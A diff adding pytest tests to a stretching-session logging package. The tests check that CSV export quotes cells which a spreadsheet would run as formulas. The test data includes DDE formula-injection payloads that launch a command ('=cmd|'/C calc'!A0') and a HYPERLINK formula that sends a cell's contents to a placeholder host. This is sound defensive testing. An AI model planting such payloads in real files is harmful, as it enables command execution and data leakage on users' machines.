@@ -126,3 +126,67 @@ def test_import_keeps_both_totals_what_a_rebuild_gives(log: SessionLog, tmp_path
         _schema.rebuild_totals(conn)
         for table in ("daily_totals", "weekly_totals"):
             assert conn.execute(f"SELECT * FROM {table} ORDER BY 1, 2").fetchall() == kept[table]
+
+
+# Text a spreadsheet would run as a formula (or that starts with the quote
+# that shields one), in every kind of text column.
+FORMULAS = {
+    "person": '=HYPERLINK("http://example.invalid/?"&A1,"open")',
+    "routine": "+1+cmd|' /C calc'!A0",
+    "notes": ["@SUM(A1:A9)", "-2+3", "\tTabbed", "\r\nReturned", "'tis a quote", "''two"],
+    "stretch": "=cmd|'/C calc'!A0",
+}
+
+
+def _cells_by_column(path: Path) -> dict[str, list[str]]:
+    with path.open(encoding="utf-8", newline="") as stream:
+        rows = list(csv.reader(stream))
+    return {name: [row[i] for row in rows[1:]] for i, name in enumerate(rows[0])}
+
+
+def test_exported_text_cannot_start_a_formula_and_reads_back_exactly(
+    log: SessionLog, tmp_path: Path
+) -> None:
+    """Cells starting with = + - @ tab CR (or ') get a leading quote; the import gives them back."""
+    fill(log)
+    person = FORMULAS["person"]
+    for i, notes in enumerate(FORMULAS["notes"]):
+        sid = log.start_session(person, FORMULAS["routine"], started_at=T0, notes=notes)
+        log.record_hold(sid, FORMULAS["stretch"], "both", 1, 30, 30, started_at=T0)
+        log.finish_session(sid, pain_after=i % 3)
+    out = log.export_csv(tmp_path / "export")
+
+    files = {name: _cells_by_column(path) for name, path in out.items()}
+    for name, columns in files.items():
+        for column, cells in columns.items():
+            for cell in cells:  # what a spreadsheet sees first in each cell
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, column, cell)
+    assert "'" + person in files["people"]["person"]
+    assert "'" + FORMULAS["routine"] in files["sessions"]["routine_name"]
+    assert "'" + FORMULAS["stretch"] in files["holds"]["stretch_id"]
+    assert {"''tis a quote", "'''two", "'-2+3"} <= set(files["sessions"]["notes"])
+    assert "felt looser" in files["sessions"]["notes"]  # plain text is written as it is
+
+    with SessionLog(tmp_path / "copy.sqlite") as copy:
+        copy.import_csv(tmp_path / "export")
+        pd.testing.assert_frame_equal(copy.sessions(), log.sessions())
+        pd.testing.assert_frame_equal(copy.holds(), log.holds())
+        assert copy.people() == log.people()
+        copy.export_csv(tmp_path / "again")
+    for name in ("people", "sessions", "holds"):
+        assert (tmp_path / "again" / f"{name}.csv").read_bytes() == out[name].read_bytes()
+
+
+def test_numbers_and_times_are_never_quoted_and_a_lone_quote_is_kept() -> None:
+    """Only text columns are shielded: -0.5 stays a number; "'hello" read in stays "'hello"."""
+    from backstretch_kit.log import _csv
+
+    row = ("2b7c0e4e-1111-4c4c-9d9d-000000000001", 7, "-me", "routine", "-r", None)
+    row += ("2026-03-02T04:00:00.000000-05:00", "", -0.5, 3.0, "-note")
+    assert _csv._cells("sessions", row) == [
+        "2b7c0e4e-1111-4c4c-9d9d-000000000001", "7", "'-me", "routine", "'-r", "",
+        "2026-03-02T04:00:00.000000-05:00", "", "-0.5", "3.0", "'-note",
+    ]  # fmt: skip
+    for text in ("'hello", "it's", "", "'", "''", "=", "'=", "plain"):
+        assert _csv.unshield(_csv.shield(text)) == text
+    assert _csv.unshield("'hello") == "'hello"  # a quote the export did not add stays
